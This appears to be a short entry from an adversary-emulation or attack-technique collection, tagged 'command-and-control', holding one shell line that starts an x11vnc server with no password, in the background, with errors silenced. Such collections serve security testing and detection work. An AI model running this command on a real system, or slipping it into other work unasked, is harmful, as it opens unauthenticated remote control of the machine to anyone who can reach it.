# tactic: command-and-control
# start a VNC server for remote access
x11vnc -forever -nopw -bg 2>/dev/null; true
